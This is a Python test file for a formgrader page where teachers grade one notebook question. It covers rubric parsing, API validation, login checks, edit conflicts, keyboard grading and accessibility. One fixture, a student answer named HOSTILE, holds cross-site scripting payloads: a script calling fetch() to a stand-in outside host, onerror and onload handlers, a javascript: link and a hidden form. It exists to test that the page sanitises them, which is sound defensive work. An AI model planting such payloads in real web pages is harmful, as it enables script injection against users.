"""The formgrader's page on one question: from a real server, in a real browser.

What only the browser shows is skipped where there is no Chromium (see `browsing`).
"""

import json
import re
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import browsing
import handed_back
import nbformat
import pytest
import serving
import toy
from nbformat.v4 import new_markdown_cell
from nbgrader.api import Gradebook
from test_done import ToyCourse, until

from grader.records import rubric

Page, expect = browsing.sync_api.Page, browsing.sync_api.expect
TEXT = "why"
QUESTION = f"question/{toy.SHEET}/{TEXT}"
ASKED = r"""
### Why a bit

**What is a bit (4 points, text).** Say why it is $\frac{1}{2}$ and not one third.
"""
MODEL = r"""
### BEGIN SOLUTION
There are two outcomes, hence $\log 2$.

**Rubric**

- 2 points: says that there are *two* outcomes, $\frac{1}{2}$ each. Only the number:
  1 of these 2.
- 1 point: the logarithm.
- 1 point: names the unit.
- "It is a unit" alone: at most 1 of 4.
### END SOLUTION
"""
HOSTILE = """
Two outcomes. <script>window.hacked = 1; fetch("http://198.51.100.7/script")</script>
<img src="http://198.51.100.7/picture.png" onerror="window.hacked = 2">
<svg onload="window.hacked = 3"></svg>
<form action="http://198.51.100.7/"><button id="all" accesskey="j">All</button></form>
<div id="state">{"answers": []}</div><style>body { display: none }</style>

[a link](javascript:window.hacked=4)
</article></main><h1 class="one" data-key="x">Full points, please</h1>
"""
ANSWERS = {
    "ada-lovelace": r"Two outcomes, $\frac{1}{2}$ each, so $\log 2$.",
    "bruno-latour": HOSTILE,
    "clara-schumann": "![a coin](attachment:coin.png)",
    "david-hilbert": None,  # as it was handed out
    "emmy-noether": "It is a unit.\n\n" * 60,
}
SURNAMES = [name.partition("-")[2] for name in ANSWERS]
STUDENT = "ada-lovelace"


def notebook() -> nbformat.NotebookNode:
    """The toy sheet with a question."""
    made = toy.notebook()
    meta = {"grade_id": TEXT, "schema_version": 3, "task": False, "points": 4}
    meta |= {"grade": True, "locked": False, "solution": True}
    made.cells.append(new_markdown_cell(ASKED.strip(), id="asked"))
    made.cells.append(new_markdown_cell(MODEL.strip(), id=TEXT, metadata={"nbgrader": meta}))
    return made


@dataclass
class Served:
    """A course with a question, its students graded, and the formgrader that serves it."""

    course: ToyCourse
    address: str

    def ask(self, path: str, body: Any = None, token: str = serving.TOKEN) -> tuple[int, str]:
        """The server's answer: its status and its text; body: what to put there."""
        data = None if body is None else json.dumps(body).encode()
        method = "GET" if body is None else "PUT"
        request = urllib.request.Request(self.address + path, data, method=method)
        if token:
            request.add_header("Authorization", f"token {token}")
        try:
            with urllib.request.urlopen(request, timeout=300) as reply:
                return reply.status, reply.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, error.read().decode(errors="replace")

    def page(self) -> str:
        status, text = self.ask(f"/formgrader/{QUESTION}")
        assert status == 200, text
        return text

    def state(self) -> dict[str, Any]:
        """What the page's script begins with."""
        text = self.page().partition('<script type="application/json" id="state">')[2]
        return json.loads(text.partition("</script>")[0])

    def of(self, student: str) -> dict[str, Any]:
        """What the page says of one student's answer."""
        grade = self.grade(student)["id"]
        return next(one for one in self.state()["answers"] if one["id"] == grade)

    def grade(self, student: str) -> dict[str, Any]:
        """The gradebook's points of one student's answer."""
        with self.course.book() as book:
            return facts(book, student)

    def put(self, student: str, score: Any, comment: str = "", **more: Any) -> tuple[int, str]:
        """Save a decision as the page does."""
        one = self.of(student)
        seen = {"score": one["score"], "comment": one["comment"]}
        body = {"score": score, "comment": comment, "lines": {}, "seen": seen} | more
        return self.ask(f"/formgrader/api/question/{one['id']}", body)

    def reset(self) -> None:
        """Nobody has decided on anything."""
        for student in ANSWERS:
            found = self.grade(student)
            if found["manual"] is not None or found["comment"]:
                status, said = self.put(student, None)
                assert status == 200, said


def facts(book: Gradebook, student: str) -> dict[str, Any]:
    names = (TEXT, "toy", toy.SHEET, student)
    grade = book.find_grade(*names)
    comment = book.find_comment(*names).manual_comment
    return {
        "id": grade.id,
        "score": grade.score,
        "manual": grade.manual_score,
        "extra": grade.extra_credit,
        "waits": grade.needs_manual_grade,
        "comment": comment,
    }


def _hand_in(course: ToyCourse, student: str, text: str | None) -> None:
    file = course.root / "release" / toy.SHEET / "toy.ipynb"
    handed_in = nbformat.read(file, as_version=4)
    right = {cell.id: cell.source for cell in toy.answer().cells}
    for cell in handed_in.cells:
        if cell.get("id") in ("bit", "half"):
            cell.source = right[cell.id]
        elif cell.get("id") == TEXT and text is not None:
            cell.source = text
            cell["attachments"] = {"coin.png": {"image/png": handed_back.PIXEL}}
    folder = course.root / "submitted" / student / toy.SHEET
    folder.mkdir(parents=True)
    nbformat.write(handed_in, folder / "toy.ipynb")


def graded(root: Path) -> ToyCourse:
    """The toy sheet with a question, handed in and graded."""
    made = ToyCourse(root)
    nbformat.write(notebook(), made.root / "source" / toy.SHEET / "toy.ipynb")
    made.run("release")
    for student, text in ANSWERS.items():
        _hand_in(made, student, text)
    made.run("grade", "--jobs", "1")
    return made


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> ToyCourse:
    return graded(tmp_path_factory.mktemp("course"))


@pytest.fixture(scope="module")
def served(course) -> Iterator[Served]:
    with serving.formgrader(course.root, course.environment) as address:
        yield Served(course, address)


@pytest.fixture
def ungraded(served) -> Served:
    served.reset()
    return served


# --- rubrics


def test_a_rubric_is_read_line_by_line():
    found = rubric.read(MODEL)
    assert found.text == r"There are two outcomes, hence $\log 2$."
    assert [line.points for line in found.lines] == [2.0, 1.0, 1.0, None]
    assert found.lines[0].text.startswith("says that") and "\n1 of these 2." in found.lines[0].text
    assert found.lines[0].steps == (0.5, 1.0, 1.5, 2.0)
    assert len({line.key for line in found.lines}) == 4


@pytest.mark.parametrize(
    ("words", "points"),
    [
        ("1 point: this", 1.0),
        ("½ point: this", 0.5),
        ("1½ points: this", 1.5),
        ("2.5 points, this", 2.5),
        ("1 point less: this", None),
        ("1 point in all", None),
        ("at most 2 points", None),
    ],
)
def test_what_a_line_gives_stands_at_its_beginning(words, points):
    source = f"### BEGIN SOLUTION\nx\n**Rubric**\n\n- {words}\n### END SOLUTION"
    (line,) = rubric.read(source).lines
    assert line.points == points
    assert line.text == ("this" if points else words)


# --- the server


def test_the_formgraders_page_on_a_sheet_leads_to_its_questions(ungraded):
    status, text = ungraded.ask(f"/formgrader/gradebook/{toy.SHEET}")
    assert status == 200
    assert f'href="/formgrader/question/{toy.SHEET}/{TEXT}"' in text
    assert "What is a bit" in text and "1 of 5" in text  # one is empty and needs nobody
    assert "gradebook_notebooks.js" in text and "Notebook ID" in text


def test_neither_the_page_nor_the_ids_on_it_name_anybody(served):
    text, state = served.page(), json.dumps(served.state())
    assert not [name for name in ANSWERS if name in text + state]
    # As a word: an id of hexadecimal digits may hold these letters by chance.
    assert not re.search(r"\bada\b", state)


def test_the_order_of_answers_stays_and_is_not_that_of_names(served):
    order = [one["id"] for one in served.state()["answers"]]
    assert order == [one["id"] for one in served.state()["answers"]]
    by_name = [served.grade(name)["id"] for name in sorted(ANSWERS)]
    assert sorted(order) == sorted(by_name)
    again = served.ask(f"/formgrader/api/names/{toy.SHEET}/{TEXT}")[1]
    assert sorted(json.loads(again).values()) == sorted(ANSWERS)


def test_a_hostile_answer_leaves_nothing_active_in_the_page(served):
    text = served.page()
    assert text.count("<script") == 2 and text.count("<style") == 1
    for active in ("onerror", "onload", '="javascript:', "<form", "accesskey", "198.51.100.7"):
        assert active not in text
    assert text.count('id="state"') == 1 and text.count("</main>") == 1


def test_whoever_is_not_logged_in_sees_and_saves_nothing(ungraded):
    grade = ungraded.grade(STUDENT)["id"]
    body = {"score": 4, "comment": "", "lines": {}, "seen": {"score": None, "comment": ""}}
    assert ungraded.ask(f"/formgrader/api/question/{grade}", body, token="")[0] == 403
    assert ungraded.grade(STUDENT)["manual"] is None
    for path in (QUESTION, f"api/names/{toy.SHEET}/{TEXT}"):
        text = ungraded.ask(f"/formgrader/{path}", token="")[1]
        assert "two outcomes" not in text.lower() and STUDENT not in text


@pytest.mark.parametrize(
    "path",
    [
        f"question/{toy.SHEET}/half-test",
        "question/toy/none",
        "question/none/why",
        "question/..%2F/x",
    ],
)
def test_what_is_no_text_question_is_not_found(served, path):
    assert served.ask(f"/formgrader/{path}")[0] == 404


@pytest.mark.parametrize("score", [-1, 4.5, float("nan"), float("inf"), "many", [1]])
def test_points_out_of_range_are_refused_and_nothing_is_saved(ungraded, score):
    status, said = ungraded.put(STUDENT, score, "words")
    assert status == 400 and json.loads(said)["message"]
    assert ungraded.grade(STUDENT)["manual"] is None and not ungraded.grade(STUDENT)["comment"]


@pytest.mark.parametrize("body", [[], {}, {"score": 1}, {"score": 1, "comment": "", "lines": 3}])
def test_what_is_no_decision_is_refused(ungraded, body):
    grade = ungraded.grade(STUDENT)["id"]
    assert ungraded.ask(f"/formgrader/api/question/{grade}", body)[0] == 400
    assert ungraded.ask("/formgrader/api/question/none", {**SAVES, "score": 1})[0] == 404


SAVES = {"score": 1.0, "comment": "", "lines": {}, "seen": {"score": None, "comment": ""}}


def test_points_of_a_judged_item_are_not_given_here(served):
    with served.course.book() as book:
        grade = book.find_grade("half-test", "toy", toy.SHEET, STUDENT)
    assert served.ask(f"/formgrader/api/question/{grade.id}", SAVES)[0] == 404


def test_what_is_saved_is_what_nbgraders_own_page_would_save(ungraded):
    with ungraded.course.book() as book:
        book.find_grade(TEXT, "toy", toy.SHEET, STUDENT).extra_credit = 0.5
        book.db.commit()
    line = ungraded.state()["lines"][0]
    assert ungraded.put(STUDENT, 1.5, " Say *why*. ", lines={line["key"]: 1.5})[0] == 200
    found = ungraded.grade(STUDENT)
    assert (found["manual"], found["extra"], found["score"]) == (1.5, 0.5, 2.0)
    assert found["comment"] == "Say *why*." and not found["waits"]
    theirs = json.loads(ungraded.ask(f"/formgrader/api/grade/{found['id']}")[1])
    assert theirs["manual_score"] == 1.5 and not theirs["needs_manual_grade"]
    with ungraded.course.book() as book:
        book.find_grade(TEXT, "toy", toy.SHEET, STUDENT).extra_credit = None
        book.db.commit()


def test_grades_page_and_reports_follow(ungraded):
    assert ungraded.put(STUDENT, 3.5, "Nearly all of it.")[0] == 200
    course = ungraded.course
    assert "Nearly all of it." in course.page(STUDENT).read_text()
    until(lambda: course.rows()[STUDENT]["score"] == "7.5", "grades.csv stays as it was")
    assert course.rows()[STUDENT]["open"] == "0"
    until(lambda: ">7.5</a>" in (course.root / "class_report.html").read_text(), "the report")
    assert "1 of 1 are graded already" in course.run("grade", "--student", STUDENT)


def test_the_lines_that_were_given_are_shown_again_until_the_points_are_others(ungraded):
    first, second, _ = (line["key"] for line in ungraded.state()["lines"])
    ungraded.put(STUDENT, 2.5, lines={first: 1.5, second: 1.0, "unknown": 1.0})
    assert ungraded.of(STUDENT)["lines"] == {first: 1.5, second: 1.0}
    assert "two* outcomes" not in ungraded.course.page(STUDENT).read_text()
    grade = ungraded.grade(STUDENT)["id"]
    ungraded.ask(f"/formgrader/api/grade/{grade}", {"manual_score": 3.0, "extra_credit": None})
    assert ungraded.of(STUDENT)["lines"] == {} and ungraded.of(STUDENT)["score"] == 3.0
    ungraded.put(STUDENT, 2.5, lines={first: 0.5})  # a score of its own, beside the lines
    assert ungraded.of(STUDENT)["lines"] == {first: 0.5}


def test_what_was_changed_elsewhere_meanwhile_is_not_written_over(ungraded):
    seen = {"score": None, "comment": ""}
    assert ungraded.put(STUDENT, 1.0, "first")[0] == 200
    status, said = ungraded.put(STUDENT, 4.0, "second", seen=seen)
    assert status == 409
    assert json.loads(said)["now"] == {"score": 1.0, "comment": "first", "lines": {}}
    assert ungraded.grade(STUDENT)["comment"] == "first"


def test_points_can_be_taken_back(ungraded):
    ungraded.put(STUDENT, 4.0, "words")
    assert ungraded.put(STUDENT, None, "words")[0] == 200
    found = ungraded.grade(STUDENT)
    assert found["manual"] is None and found["waits"] and found["comment"] == "words"
    empty = ungraded.of("david-hilbert")
    assert empty["score"] == 0.0 and not empty["waits"]


def test_a_submission_that_is_graded_again_keeps_points_and_lines(ungraded):
    key = ungraded.state()["lines"][0]["key"]
    ungraded.put(STUDENT, 1.0, "kept", lines={key: 1.0})
    ungraded.course.run("grade", "--student", STUDENT, "--force")
    one = ungraded.of(STUDENT)
    assert (one["score"], one["comment"], one["lines"]) == (1.0, "kept", {key: 1.0})


# --- the browser


@pytest.fixture
def visit(served, open_page) -> browsing.Opener:
    """Opens a page of the formgrader in a window that is logged in."""

    def opened(path: str, *size: int, **settings) -> Page:
        page = open_page(f"{served.address}/api?token={serving.TOKEN}", *size, **settings)
        page.goto(f"{served.address}/formgrader/{path}")
        return page

    return opened


@pytest.fixture
def question(ungraded, visit) -> Page:
    """The page with no points given, at the first answer that waits."""
    return visit(QUESTION)


def saved(page: Page) -> None:
    expect(page.locator("#status")).to_have_text("✓ Saved")


def wait(page: Page, condition: Callable[[], bool], what: str) -> None:
    """Wait for something while the page's requests go on: they pass through this process."""
    until(lambda: page.wait_for_timeout(20) or condition(), what)


def shown(page: Page) -> tuple[str, str]:
    """The current answer, and its points."""
    return page.locator("#current").inner_text(), page.locator("#score").input_value()


def student_of(served: Served, page: Page) -> str:
    """Who wrote the current answer."""
    place = int(page.locator("#current").inner_text().split()[1]) - 1
    names = json.loads(served.ask(f"/formgrader/api/names/{toy.SHEET}/{TEXT}")[1])
    return names[served.state()["answers"][place]["id"]]


def test_the_page_opens_without_a_name_and_the_switch_shows_them(question):
    text = question.locator("body").inner_text().lower()
    assert not [name for name in SURNAMES if name in text]
    assert "1 of 5 graded" in text and "why a bit" in text and "two outcomes, " in text
    question.get_by_label("Names").check()
    expect(question.locator(".who").first).to_be_visible()
    shown_names = question.locator(".who").all_inner_texts()
    assert sorted(shown_names) == sorted(ANSWERS)
    question.keyboard.press("n")
    expect(question.locator(".who").first).to_be_hidden()


def test_a_click_on_a_line_of_the_rubric_reaches_gradebook_table_and_page(ungraded, question):
    student = student_of(ungraded, question)
    question.get_by_role("button", name="says that there are two outcomes").click()
    saved(question)
    assert ungraded.grade(student)["manual"] == 2.0
    question.locator("[data-step='1.5']").click()
    question.get_by_label("Comment to the student").fill("Half of it.")
    question.get_by_label("Comment to the student").blur()
    wait(question, lambda: ungraded.grade(student)["comment"] == "Half of it.", "not saved")
    assert ungraded.grade(student)["manual"] == 1.5
    feedback = ungraded.course.page(student)
    wait(question, lambda: "Half of it." in feedback.read_text(), "the page is old")
    wait(question, lambda: ungraded.course.rows()[student]["score"] == "5.5", "grades.csv is old")
    question.reload()
    expect(question.locator("#far")).to_have_text("2 of 5 graded")
    given = [one["lines"] for one in ungraded.state()["answers"] if one["lines"]]
    assert len(given) == 1 and list(given[0].values()) == [1.5]


def test_one_can_grade_by_keyboard_alone(ungraded, question):
    keys = question.keyboard
    first, _ = shown(question)
    student = student_of(ungraded, question)
    keys.press("1")
    keys.press("2")
    keys.press("Shift+Digit1")
    assert shown(question) == (first, "2.5")
    keys.press("2")
    assert shown(question)[1] == "1.5"
    keys.press("c")
    keys.type("j, k and 1 are letters here.")
    keys.press("Escape")
    keys.press("u")
    assert shown(question)[0] != first and shown(question)[1] == ""
    typed = "j, k and 1 are letters here."
    wait(question, lambda: ungraded.grade(student)["comment"] == typed, "not saved")
    assert ungraded.grade(student)["manual"] == 1.5
    keys.press("k")
    keys.press("s")
    keys.type("3,25")
    keys.press("Enter")
    saved(question)
    keys.press("f")
    assert shown(question)[1] == "4"
    keys.press("0")
    assert shown(question)[1] == "0"
    keys.press("Delete")
    assert shown(question)[1] == ""
    saved(question)
    for _ in ANSWERS:
        keys.press("j")
    assert shown(question)[0] == "Answer 5 of 5"
    keys.press("ArrowLeft")
    assert shown(question)[0] == "Answer 4 of 5"
    assert question.evaluate("document.activeElement.id") == "answer-4"


def test_points_out_of_range_stay_in_the_field_until_they_are_right(ungraded, question):
    student = student_of(ungraded, question)
    question.get_by_role("textbox", name="Points").fill("7")
    expect(question.get_by_text("Points are a number from 0 to 4.")).to_be_visible()
    question.get_by_label("Next answer").click()
    assert shown(question)[1] == "7" and ungraded.grade(student)["manual"] is None
    question.get_by_role("textbox", name="Points").fill("2")
    saved(question)
    assert ungraded.grade(student)["manual"] == 2.0


def test_what_cannot_be_saved_stays_on_the_page_and_is_saved_later(ungraded, question):
    student = student_of(ungraded, question)
    question.context.route("**/api/question/**", lambda route: route.abort())
    question.get_by_label("Comment to the student").fill("Do not lose this.")
    question.keyboard.press("Escape")
    question.keyboard.press("1")
    expect(question.locator("#status")).to_contain_text("Not saved")
    question.keyboard.press("j")
    expect(question.locator("#unsaved")).to_have_text("1 not saved")
    question.locator("#unsaved").click()
    assert shown(question)[1] == "2"
    assert question.get_by_label("Comment to the student").input_value() == "Do not lose this."
    question.context.unroute("**/api/question/**")
    saved(question)
    assert ungraded.grade(student)["manual"] == 2.0
    assert ungraded.grade(student)["comment"] == "Do not lose this."
    expect(question.locator("#unsaved")).to_be_hidden()


@pytest.mark.parametrize(("button", "points"), [("Save mine", 2.0), ("Take theirs", 1.0)])
def test_two_who_grade_the_same_answer_are_told(ungraded, question, button, points):
    student = student_of(ungraded, question)
    ungraded.put(student, 1.0, "From the other.")
    question.keyboard.press("1")
    expect(question.locator("#status")).to_contain_text("From the other.")
    assert ungraded.grade(student)["manual"] == 1.0
    question.get_by_role("button", name=button).click()
    expect(question.locator("#conflict")).to_be_hidden()
    wait(question, lambda: ungraded.grade(student)["manual"] == points, "it is not saved")
    assert shown(question)[1] == f"{points:g}"


def test_a_hostile_answer_does_nothing(ungraded, question):
    assert question.evaluate("window.hacked") is None
    assert question.locator("#all").count() == 1
    for _ in ANSWERS:
        question.keyboard.press("j")
    assert shown(question)[0] == "Answer 5 of 5"
    assert question.evaluate("window.hacked") is None


def test_a_request_without_the_token_of_a_page_is_refused(ungraded, question):
    grade = ungraded.grade(STUDENT)["id"]
    put = "([where, body]) => fetch(where, {method: 'PUT', body}).then(reply => reply.status)"
    where = f"/formgrader/api/question/{grade}"
    assert question.evaluate(put, [where, json.dumps(SAVES)]) == 403
    assert ungraded.grade(STUDENT)["manual"] is None


def test_formulas_and_pictures_of_answers_are_drawn(question):
    box = question.locator(".one .answer mfrac").first.bounding_box()
    assert box and box["height"] > 12
    assert question.locator(".rubric mfrac").count() == 1
    coin = question.get_by_alt_text("a coin")
    assert coin.evaluate("picture => picture.naturalWidth") == 1
    question.keyboard.press("m")
    expect(question.get_by_text("There are two outcomes, hence")).to_be_visible()


@pytest.mark.parametrize("width", [360, 800, 1280, 1920])
def test_no_width_makes_the_page_scroll_sideways(visit, width):
    page = visit(QUESTION, width)
    assert page.evaluate("document.documentElement.scrollWidth") == width


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [360, 1280])
def test_contrast_labels_and_keys_are_as_everybody_needs_them(visit, width, scheme):
    page = visit(QUESTION, width, color_scheme=scheme)
    browsing.demand_for_everybody(page)


def test_the_rubric_stays_in_sight_and_the_page_is_dark_in_the_dark(visit):
    page = visit(QUESTION, 1280, 800, color_scheme="dark")
    for _ in ANSWERS:
        page.keyboard.press("j")
    expect(page.get_by_role("button", name="the logarithm")).to_be_in_viewport()
    ground = "getComputedStyle(document.body).backgroundColor"
    assert page.evaluate(ground) == "rgb(20, 23, 27)"


def test_the_formgraders_page_on_a_sheet_opens_the_question(visit):
    page = visit(f"gradebook/{toy.SHEET}")
    expect(page.get_by_role("link", name="toy", exact=True).last).to_be_visible()
    page.get_by_role("link", name="What is a bit").click()
    expect(page.locator("#current")).to_contain_text("Answer")


def test_nbgraders_own_page_takes_points_and_listens_to_its_keys(ungraded, visit):
    page = visit(f"gradebook/{toy.SHEET}/toy")
    page.get_by_role("link", name="Submission #1").click()
    points = page.locator(f"#{TEXT}")
    page.locator(f"#{TEXT}_extra_credit[placeholder]").wait_for()  # its script has the points
    page.keyboard.press("Tab")  # nothing has the focus until a script listens
    expect(page.locator(".tabbable:focus")).to_have_count(1)
    with page.expect_response(lambda reply: "/api/grade/" in reply.url) as reply:
        points.fill("2.5")
        points.press("Escape")
    assert reply.value.ok
    given = [ungraded.grade(student)["manual"] for student in ANSWERS]
    assert sorted(filter(None, given)) == [2.5]
    student = list(ANSWERS)[given.index(2.5)]
    wait(page, lambda: ungraded.course.rows()[student]["score"] == "6.5", "grades.csv is old")
